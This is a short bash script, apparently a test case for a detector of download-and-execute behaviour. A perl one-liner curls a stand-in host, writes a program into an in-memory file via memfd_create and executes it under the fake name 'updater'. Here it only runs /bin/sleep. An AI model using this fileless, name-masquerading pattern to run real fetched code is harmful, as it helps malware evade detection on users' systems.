#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=download-execute half=report tool=curl,perl seconds=10
# A program is fetched into memory by perl and runs from there under an ordinary name.
perl -e 'my $n = "x\0"; my $fd = syscall(319, $n, 0); open(my $o, ">&=", $fd); binmode $o; my $p = `curl -s http://updates.example.com/version`; open(my $i, "<", "/bin/sleep"); local $/; my $d = <$i>; print $o $d; $o->flush; exec { "/proc/self/fd/$fd" } "updater", "4"' ; true
